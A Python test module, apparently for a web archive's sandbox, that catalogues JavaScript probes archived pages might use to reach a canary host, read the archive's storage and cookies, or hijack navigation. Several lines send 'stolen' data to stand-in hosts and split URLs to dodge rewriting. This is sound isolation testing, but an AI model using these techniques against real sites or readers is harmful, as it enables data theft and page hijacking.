"""What does a page try that wants to reach the live web, the archive's own pages, or whoever reads it? Each try has a name.

`SUBRESOURCES` run one after the other in one page; each page of `NAVIGATIONS` tries to take the reader elsewhere. Addresses are put
together at run time, so that no rewriting of the HTML can help: what holds is what the browser enforces.
"""

from __future__ import annotations

from dataclasses import dataclass

HOST = "evil.example"
CANARY = "canary.example"


@dataclass(frozen=True, slots=True, kw_only=True)
class Probe:
    """One try. `code` is JavaScript in which `at(name)` is an address of the canary and `UI` the origin of the archive's pages."""

    name: str
    code: str
    alive: bool = True
    """Whether it reaches the canary where nothing is done against it (in this Chromium, without a person at the keyboard)."""


def _element(tag: str, **attributes: str) -> str:
    lines = "".join(f"e.setAttribute({name.rstrip('_')!r}, {value});" for name, value in attributes.items())
    return f"const e = document.createElement({tag!r}); {lines} document.body.append(e);"


def _link(rel: str, **more: str) -> str:
    return _element("link", rel=repr(rel), href="at(NAME)", **more)


_CODE: dict[str, str] = {
    "img": "new Image().src = at(NAME);",
    "img-srcset": _element("img", srcset="at(NAME) + ' 1x'"),
    "picture": "document.body.insertAdjacentHTML('beforeend', `<picture><source srcset='${at(NAME)}'><img></picture>`);",
    "css-link": _link("stylesheet"),
    "css-import": "const s = document.createElement('style'); s.textContent = `@import url('${at(NAME)}')`; document.head.append(s);",
    "css-background": _element("div", style="`background:url(${at(NAME)});width:9px;height:9px`"),
    "css-cursor": _element("i", style="`list-style-image:url(${at(NAME)});display:list-item`"),
    "font": "new FontFace('x' + NAME.length, `url(${at(NAME)})`).load().catch(() => {});",
    "script": _element("script", src="at(NAME + '.js')"),
    "script-module": _element("script", src="at(NAME + '.js')", type="'module'"),
    "import": "import(at(NAME + '.js')).catch(() => {});",
    "fetch": "fetch(at(NAME)).catch(() => {});",
    "fetch-no-cors": "fetch(at(NAME), {mode: 'no-cors', method: 'POST', body: 'stolen'}).catch(() => {});",
    "fetch-keepalive": "fetch(at(NAME), {keepalive: true, mode: 'no-cors'}).catch(() => {});",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', at(NAME)); x.send();",
    "beacon": "navigator.sendBeacon(at(NAME), 'stolen');",
    "websocket": "new WebSocket(at(NAME).replace('http', 'ws'));",
    "eventsource": "new EventSource(at(NAME));",
    "preload": _link("preload", as_="'image'"),
    "modulepreload": _link("modulepreload"),
    "prefetch": _link("prefetch"),
    "preconnect": _link("preconnect"),
    "icon": _link("icon"),
    "manifest": _link("manifest"),
    "iframe": _element("iframe", src="at(NAME)"),
    "iframe-credentialless": _element("iframe", credentialless="''", src="at(NAME)"),
    "iframe-srcdoc": _element("iframe", srcdoc="`<img src='${at(NAME)}'>`"),
    "iframe-data": _element("iframe", src="`data:text/html,<img src='${at(NAME)}'>`"),
    "iframe-javascript": _element("iframe", src="`javascript:\"<img src='${at(NAME)}'>\"`"),
    "iframe-blob": _element("iframe", src="URL.createObjectURL(new Blob([`<img src='${at(NAME)}'>`], {type: 'text/html'}))"),
    "iframe-fresh-realm": (
        "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(at(NAME)).catch(() => {});"
    ),
    "object": _element("object", data="at(NAME)"),
    "embed": _element("embed", src="at(NAME)"),
    "video": _element("video", src="at(NAME)", preload="'auto'"),
    "audio": _element("audio", src="at(NAME)", preload="'auto'"),
    "video-poster": _element("video", poster="at(NAME)"),
    "svg-image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${at(NAME)}'/></svg>`);",
    "set-html-unsafe": "const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(`<img src='${at(NAME)}'>`);",
    "input-image": _element("input", type="'image'", src="at(NAME)"),
    "worker-blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${at(NAME)}', {mode: 'no-cors'})`])));",
    "worker-import": "new Worker(URL.createObjectURL(new Blob([`importScripts('${at(NAME + '.js')}')`])));",
    "form-in-frame": (
        "document.body.insertAdjacentHTML('beforeend', '<iframe name=fr></iframe><form target=fr method=post></form>');"
        " const f = document.querySelector('form[target=fr]'); f.action = at(NAME); f.submit();"
    ),
    "ping": "const a = document.createElement('a'); a.ping = at(NAME); a.href = '#'; document.body.append(a); a.click();",
    "cache-add": "caches.open('x').then((c) => c.add(at(NAME))).catch(() => {});",
    "webrtc": (
        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + PORT}]}); p.createDataChannel('x');"
        " p.createOffer().then((o) => p.setLocalDescription(o));"
    ),
    "speculation-prefetch": (
        "const s = document.createElement('script'); s.type = 'speculationrules';"
        " s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [at(NAME)], eagerness: 'immediate'}]});"
        " document.head.append(s);"
    ),
    "audio-worklet": "new AudioContext().audioWorklet.addModule(at(NAME + '.js')).catch(() => {});",
    "fetch-later": "fetchLater(at(NAME), {activateAfter: 0});",
}
# What this Chromium does not do by itself, or not without a person, even where nobody forbids it.
_STILL = {
    "audio-worklet",
    "icon",
    "manifest",
    "cache-add",
    "speculation-prefetch",
    "fetch-later",
    "iframe-data",
    "iframe-javascript",
    "css-cursor",
}
_UI: dict[str, str] = {
    "ui-fetch": "fetch(UI + '/api/front').then((r) => r.text()).then((t) => note('ui-fetch', t)).catch(() => {});",
    "ui-fetch-no-cors": "fetch(UI + '/cdx?url=x', {mode: 'no-cors', credentials: 'include'}).catch(() => {});",
    "ui-post": "fetch(UI + '/search', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => {});",
    "ui-img": "new Image().src = UI + '/static/icon.svg';",
    "ui-script": _element("script", src="UI + '/api/runs'"),
    "ui-iframe": _element("iframe", src="UI + '/'"),
    "ui-beacon": "navigator.sendBeacon(UI + '/', 'x');",
    "ui-websocket": "new WebSocket(UI.replace('http', 'ws') + '/');",
    "ui-touch": "note('ui-touch', parent.document.title); note('ui-touch', parent.location.href);",
    "ui-eval": "note('ui-eval', parent.eval(\"document.getElementById('viewer-frame') ? 'reached' : ''\"));",
    "ui-storage": "note('ui-storage', parent.localStorage.getItem('secret'));",
    "ui-message": (
        "for (const m of ['x', {warchive: 'shown', url: 'javascript:alert(1)', timestamp: '20241108081500'},"
        " {warchive: 'shown', url: 'https://' + CANARY + '/claimed', timestamp: '20241108081500'}]) parent.postMessage(m, '*');"
    ),
    "ui-cookie": "document.cookie = 'stolen=1; domain=localhost; path=/'; document.cookie = 'stolen=1; path=/'; note('ui-cookie', '');",
    "own-storage": (
        "note('own-storage', JSON.stringify(localStorage)); indexedDB.databases().then((d) => note('own-storage', JSON.stringify(d)));"
    ),
    "history": "try { history.pushState({}, '', UI + '/stolen'); note('history', 'reached'); } catch (e) {}",
    "service-worker": (
        "navigator.serviceWorker.register('sw.js').then(() => note('service-worker', 'registered'));"
        " navigator.serviceWorker.register('/sw.js').then(() => note('service-worker', 'registered'));"
    ),
    "shared-worker": "new SharedWorker('worker.js').port.onmessage = () => note('shared-worker', 'runs');",
    "protocol-handler": "navigator.registerProtocolHandler('web+x', location.origin + '/?u=%s');",
    "camera": "navigator.mediaDevices.getUserMedia({audio: true}).then(() => note('camera', 'reached'));",
    "clipboard": "navigator.clipboard.readText().then((t) => note('clipboard', 'reached'));",
    "geolocation": "navigator.geolocation.getCurrentPosition(() => note('geolocation', 'reached'));",
    "dialog": "alert(1); note('dialog', String(confirm('x')) === 'true' ? 'reached' : '');",
    "popup": "if (window.open(at('popup'))) note('popup', 'reached');",
}
SUBRESOURCES = (
    *(Probe(name=name, code=code, alive=name not in _STILL) for name, code in _CODE.items()),
    *(Probe(name=name, code=code, alive=False) for name, code in _UI.items()),
)

NAVIGATIONS: dict[str, str] = {
    "nav-location": "location.href = at(NAME);",
    "nav-replace": "window['loc' + 'ation']['repl' + 'ace'](at(NAME));",
    "nav-navigation-api": "navigation.navigate(at(NAME));",
    "nav-meta-refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${at(NAME)}'>`);",
    "nav-form-get": "const f = document.createElement('form'); f.action = at(NAME); document.body.append(f); f.submit();",
    "nav-form-post": (
        "const f = document.createElement('form'); f.method = 'post'; f.action = at(NAME); document.body.append(f); f.submit();"
    ),
    "nav-form-top": (
        "const f = document.createElement('form'); f.action = at(NAME); f.target = '_top'; document.body.append(f); f.submit();"
    ),
    "nav-anchor": "const a = document.createElement('a'); a.href = at(NAME); document.body.append(a); a.click();",
    "nav-anchor-top": "const a = document.createElement('a'); a.href = at(NAME); a.target = '_top'; document.body.append(a); a.click();",
    "nav-anchor-parent": (
        "const a = document.createElement('a'); a.href = at(NAME); a.target = '_parent'; document.body.append(a); a.click();"
    ),
    "nav-download": "const a = document.createElement('a'); a.href = at(NAME); a.download = 'x'; document.body.append(a); a.click();",
    "nav-top": "window['to' + 'p']['loc' + 'ation'] = at(NAME);",
    "nav-parent": "self['par' + 'ent']['loc' + 'ation']['href'] = at(NAME);",
    "nav-base": (
        "document.head.insertAdjacentHTML('afterbegin', `<base href='${at('')}'>`); const a = document.createElement('a');"
        " a.setAttribute('href', NAME); document.body.append(a); a.click();"
    ),
    "nav-nested": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        " f.contentDocument.write(`<script>top.location = '${at(NAME)}'; parent.location = '${at(NAME)}'</` + 'script>');"
    ),
    "nav-javascript": "location.href = `javascript:location.href='${at(NAME)}'`;",
    "nav-fresh-realm": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.parent.location = at(NAME);",
}
# Headers of archived answers: each page is empty but for its name.
HEADERS: dict[str, list[str]] = {
    "head-refresh": ["Refresh: 0; url={at}"],
    "head-link-preload": ["Link: <{at}>; rel=preload; as=image", "Link: <{at}>; rel=preconnect"],
    "head-link-stylesheet": ["Link: <{at}>; rel=stylesheet"],
    "head-reporting": [
        "Content-Security-Policy-Report-Only: img-src 'none'; report-uri {at}",
        'Reporting-Endpoints: default="{at}"',
        'NEL: {{"report_to": "default", "max_age": 9, "success_fraction": 1}}',
    ],
    "head-speculation": ['Speculation-Rules: "{at}.json"'],
    "head-storage": ["Set-Cookie: stolen=1; Path=/", 'Clear-Site-Data: "*"', "Service-Worker-Allowed: /", 'Alt-Svc: h2="{host}"; ma=99'],
    "head-authenticate": ['WWW-Authenticate: Basic realm="archive"'],
}
# In the frame above which there is a person's eye.
IN_VIEWER = (
    "nav-location nav-meta-refresh nav-form-get nav-form-top nav-anchor-top nav-top nav-download nav-base head-refresh moved moved-oddly"
).split()
HEADERS_ALIVE = {"head-refresh", "head-link-preload", "head-reporting"}


def script(port: int, ui: str, code: str, name: str = "") -> str:
    """A page's script: addresses put together at run time."""
    return (
        f"const PORT = {port}, NAME = {name!r}, UI = {ui.replace('http', 'ht', 1)!r}.replace('ht', 'ht' + 'tp'), CANARY = {CANARY!r};"
        " const at = (name) => 'ht' + 'tp:' + '//' + CANARY + ':' + PORT + '/' + name;"
        " window.noted = {}; const note = (name, what) => { (window.noted[name] ||= []).push(String(what)); };"
        f" {code}"
    )


def probes_page(port: int, ui: str, *, without: frozenset[str] = frozenset()) -> bytes:
    """All tries of `SUBRESOURCES`, each on its own: one that throws stops no other."""
    tries = " ".join(
        f"try {{ (() => {{ const NAME = {probe.name!r}; {probe.code} }})(); }} catch (error) {{ note({probe.name!r}, 'refused'); }}"
        for probe in SUBRESOURCES
        if probe.name not in without
    )
    # Markup that asks before any script runs, or where scripts are off.
    at = f"http://{CANARY}:{port}"
    markup = (
        f"<link rel=dns-prefetch href='//dns.{CANARY}'><link rel=prerender href='{at}/prerender'>"
        "<meta http-equiv=x-dns-prefetch-control content=on>"
        f"<img src='{at}/markup-img'><img src='http://127.0.0.1:{port}/other-port'><table background='{at}/markup-background'></table>"
    )
    body = (
        f"<!doctype html><title>Probes</title><body>{markup}<p id=done>no</p><script>{script(port, ui, tries)} window.ran = true;</script>"
    )
    return body.encode()


def navigation_page(name: str, port: int, ui: str) -> bytes:
    """One that tries to go elsewhere a moment after it was shown, and again when somebody clicks."""
    go = f"const go = () => {{ {NAVIGATIONS[name]} }}; window.ran = true; setTimeout(go, 100); document.onclick = go;"
    style = "<style>html,body{height:100%}</style>"
    return f"<!doctype html><title>{name}</title>{style}<body>Click here.<script>{script(port, ui, go, name)}</script>".encode()


def frames_page(names: list[str]) -> bytes:
    """A page that frames others: what a frame of a frame may not do is forbidden by the page around it."""
    frames = "".join(f"<iframe src='{name}.html'></iframe>" for name in names)
    return f"<!doctype html><title>Frames</title><body>{frames}<script>window.ran = true;</script>".encode()


def raw_frame_page(replay: str, timestamp: str, port: int, name: str) -> bytes:
    """A page that frames another as it was sent, without any rewriting: `id_` asks for that."""
    address = f"{replay}/web/{timestamp}id_/http://{HOST}:{port}/{name}.html"
    code = f"const f = document.createElement('iframe'); f.src = {address!r}; document.body.append(f); window.ran = true;"
    return f"<!doctype html><title>Raw</title><body><script>{code}</script>".encode()
